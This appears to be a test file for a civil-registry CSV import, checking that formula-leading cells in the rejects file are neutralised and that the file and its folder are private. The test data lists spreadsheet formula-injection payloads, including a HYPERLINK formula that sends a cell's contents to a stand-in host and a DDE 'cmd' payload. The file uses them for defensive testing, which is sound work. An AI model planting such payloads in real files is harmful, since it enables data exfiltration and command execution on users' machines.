import assert from 'node:assert/strict';
import { readFile, stat, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { personImportSpec, runImport } from '../../src/registry/index.ts';
import { splitCsvLine } from '../../src/shared/csv.ts';
import { createTestDatabase, type TestDatabase } from '../helpers/database.ts';
import { okValue } from '../helpers/result.ts';

/**
 * The rejects file holds what a sender wrote, names and CI numbers included, and is opened by
 * officers in a spreadsheet: formula-leading cells are neutralised and the file is private.
 */
const HEADER =
  'ci_number,complemento,expedition,given_names,first_surname,second_surname,date_of_birth,sex,municipality_code,residence_country,date_of_death';
const ASOF = '2021-03-01';

let t: TestDatabase;
before(async () => {
  t = await createTestDatabase();
});
after(async () => {
  await t.dispose();
});

test('a rejects file neutralises formula-leading cells and is readable by its owner only', async () => {
  const hostile = [
    '=HYPERLINK("http://x.test/?d="&A1;"Ver")',
    '+1+1',
    '@SUM(A1)',
    "-2+3+cmd|' /C calc'!A0",
    '\t=1+1',
  ];
  const source = path.join(t.dir, 'hostile.csv');
  // Whole lines starting with a formula (too few fields), and a valid line with a formula as a name.
  const lines = [HEADER, ...hostile, '7654321,,LP,=1+1,Flores,Choque,1990-02-03,F,020101,BO,'];
  await writeFile(source, `${lines.join('\n')}\n`);
  const rejectsDir = path.join(t.dir, 'data', 'rejects');
  const s = okValue(
    await runImport(t.db, personImportSpec(ASOF), {
      filePath: source,
      actor: 'test',
      asOf: ASOF,
      rejectsDir,
    }),
  );
  assert.equal(s.rowsRejected, hostile.length + 1);
  assert.ok(s.rejectsPath);
  const rows = (await readFile(s.rejectsPath, 'utf8'))
    .trimEnd()
    .split('\n')
    .slice(1)
    .map((l) => splitCsvLine(l));
  const contents = rows.map((r) => r?.[2]);
  for (const [i, h] of hostile.entries()) assert.equal(contents[i], `'${h}`, `line ${i + 2}`);
  assert.equal(contents[hostile.length], lines.at(-1), 'a line that starts with a digit is left as it is');
  assert.equal(rows[0]?.[0], '2', 'the line number stays a number');

  assert.equal((await stat(s.rejectsPath)).mode & 0o777, 0o600, 'rejects file: 0600');
  assert.equal((await stat(rejectsDir)).mode & 0o777, 0o700, 'rejects folder: 0700');
  assert.equal((await stat(path.dirname(rejectsDir))).mode & 0o777, 0o700, 'its parent, created too: 0700');
});
